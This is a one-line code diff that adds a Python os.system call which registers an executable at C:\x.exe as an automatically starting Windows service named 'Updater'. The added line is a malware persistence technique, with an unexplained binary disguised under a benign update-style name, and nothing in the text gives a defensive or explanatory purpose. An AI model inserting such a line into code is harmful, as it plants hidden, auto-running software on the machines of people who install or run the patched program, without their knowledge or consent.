@@ -1,0 +1,1 @@
+os.system("sc create Updater binPath= C:\\x.exe start= auto")
